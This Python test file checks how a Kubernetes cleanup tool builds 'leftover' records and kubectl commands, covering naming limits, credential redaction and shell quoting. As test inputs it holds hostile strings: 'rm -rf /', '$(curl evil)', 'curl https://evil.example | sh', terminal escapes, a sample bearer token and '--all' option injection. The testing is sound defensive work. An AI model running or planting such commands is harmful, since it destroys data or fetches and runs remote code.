"""Debts as Leftovers: the same names each time, every item in one of them, texts that may be shown and copied."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hortus.engine.applysets.inventory import InventoryEntry, Member
from hortus.engine.leftovers import (
    Debt,
    infrastructure_item,
    items_of_inventory,
    leftovers_of,
    object_item,
    safe_text,
    thing_of,
    ways_of,
)
from hortus.engine.leftovers.types import (
    LONGEST_TEXT,
    MOST_ITEMS,
    LeftoverItem,
    LeftoverObject,
    LeftoverReason,
    LeftoverSource,
)
from hortus.kube.objects import Resource

ROLES = Resource("rbac.authorization.k8s.io", "v1", "roles", "Role")
HOSTILE = "\u202ereader; rm -rf / #\n$(curl evil)\x1b[2J"
TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"


def debt(names: list[str], *, message: str = "", name: str = "reader", uid: str = "u-1") -> Debt:
    return Debt(
        source=LeftoverSource(kind="ClusterAccess", name=name, namespace="team", uid=uid),
        reason=LeftoverReason.CLUSTER_UNREACHABLE,
        message=message,
        items=[object_item(ROLES, "default", one, where="Cluster", uid=f"uid-{one}") for one in names],
    )


@given(st.lists(st.text("abc0", min_size=1, max_size=6), min_size=1, max_size=3 * MOST_ITEMS, unique=True))
def test_every_item_is_in_one_leftover_and_none_holds_too_many(names: list[str]) -> None:
    made = list(leftovers_of(debt(names), "fleet"))
    assert all(0 < len(one.spec.items) <= MOST_ITEMS for one in made)
    assert sorted(item.object.name for one in made for item in one.spec.items if item.object) == sorted(names)
    assert len({one.metadata.name for one in made}) == len(made)
    assert len({item.id for one in made for item in one.spec.items}) == len(names)


@given(st.permutations(["a", "b", "c", "d"]))
def test_the_same_debt_has_the_same_leftovers_in_any_order(names: list[str]) -> None:
    assert list(leftovers_of(debt(names), "fleet")) == list(leftovers_of(debt(sorted(names)), "fleet"))


def test_an_item_named_twice_is_one() -> None:
    [one] = leftovers_of(debt(["a", "a"]), "fleet")
    assert len(one.spec.items) == 1


def test_an_object_made_again_under_a_name_has_a_leftover_of_its_own() -> None:
    [first], [second] = (list(leftovers_of(debt(["a"], uid=uid), "fleet")) for uid in ("u-1", "u-2"))
    assert first.metadata.name != second.metadata.name


@given(st.text(max_size=300))
def test_a_leftover_has_a_name_that_kubernetes_takes(name: str) -> None:
    [one] = leftovers_of(debt(["a"], name=name), "fleet")
    assert len(one.metadata.name) <= 63
    assert all(character in "abcdefghijklmnopqrstuvwxyz0123456789-" for character in one.metadata.name)
    assert one.metadata.name.strip("-") == one.metadata.name


def test_a_hostile_name_is_one_quoted_word_and_moves_no_cursor() -> None:
    item = object_item(ROLES, "default", HOSTILE, where="Cluster")
    for command in (item.look, item.remove):
        assert command.isprintable()
        assert len(shlex.split(command)) == 6, "kubectl get roles NAME -n default"
    assert item.what.isprintable()


@pytest.mark.parametrize("text", [f"the answer was Bearer {TOKEN}", "https://admin:hunter22@evil.example"])
def test_a_message_shows_no_credential(text: str) -> None:
    [one] = leftovers_of(debt(["a"], message=text), "fleet")
    assert TOKEN not in one.spec.message
    assert "hunter22" not in one.spec.message


@given(st.text(max_size=5 * LONGEST_TEXT))
def test_a_text_is_printable_and_short(text: str) -> None:
    assert len(safe_text(text)) <= LONGEST_TEXT
    assert safe_text(text).isprintable()


def test_the_members_of_a_set_become_items_with_their_identity() -> None:
    member = Member(ROLES.group, ROLES.kind, "default", "reader")
    [item] = items_of_inventory({member: InventoryEntry("v1", "roles", "u-9")})
    assert (item.where, item.actor, item.what) == ("Cluster", "ClusterOwner", "Role default/reader")
    assert item.look == "kubectl get roles.rbac.authorization.k8s.io reader -n default"
    assert item.object is not None
    assert (item.object.resource, item.object.version, item.object.uid) == ("roles", "v1", "u-9")


def test_infrastructure_has_no_object_to_look_at() -> None:
    item = infrastructure_item("disks of c-1", "c-1/u-1", look="in the account", remove="by hand")
    assert (item.where, item.object, item.actor) == ("Infrastructure", None, "Operator")


def test_a_name_that_looks_like_an_option_is_none() -> None:
    """Names of roles may begin with dashes: kubectl would delete all of them."""
    item = object_item(ROLES, "default", "--all", where="Cluster")
    assert item.remove == "kubectl delete roles.rbac.authorization.k8s.io -n default -- --all"


def recorded(look: str, remove: str, **known: str) -> LeftoverItem:
    """An item as anybody may write it."""
    obj = LeftoverObject(**{"version": "v1", "resource": "configmaps", "kind": "ConfigMap", "name": "a", **known})
    return LeftoverItem("0" * 8, "evil", "Cluster", "Operator", object=obj if known else None, look=look, remove=remove)


def test_words_of_a_record_are_no_commands() -> None:
    """A record has an author: what it says to type is shown as what it says."""
    evil = "curl https://evil.example | sh"
    assert ways_of(recorded(evil, f'{evil} " kubectl delete')) == (f'"{evil}"', f'"{evil} \' kubectl delete"')
    assert ways_of(recorded("", "")) == ("", "")
    assert thing_of(recorded(evil, evil)) == '"evil"'
    assert ways_of(recorded(evil, evil, name="left", namespace="x")) == (
        "kubectl get configmaps left -n x",
        "kubectl delete configmaps left -n x",
    )
    assert thing_of(recorded(evil, evil, name="left", namespace="x")) == "ConfigMap x/left"
    for odd in ("--all", "secrets,configmaps", "pods --all", "a;b", ""):
        assert ways_of(recorded(evil, evil, resource=odd)) == ("", "")


TEXTS = st.text(max_size=200)


@given(resource=TEXTS, group=TEXTS, namespace=TEXTS, name=TEXTS)
def test_each_word_of_a_command_is_where_it_belongs(resource: str, group: str, namespace: str, name: str) -> None:
    known = {"resource": resource, "group": group, "namespace": namespace, "name": name}
    for command in filter(None, ways_of(recorded("", "", **known))):
        assert command.isprintable()
        tool, verb, *words = shlex.split(command)
        assert (tool, verb in ("get", "delete")) == ("kubectl", True)
        assert len(arguments(words)) == 2


def arguments(words: list[str]) -> list[str]:
    """The words that are no options, as kubectl reads a line."""
    found: list[str] = []
    rest = iter(words)
    for word in rest:
        if word == "--":
            return [*found, *rest]
        if word == "-n":
            next(rest)
            continue
        assert not word.startswith("-")
        found.append(word)
    return found
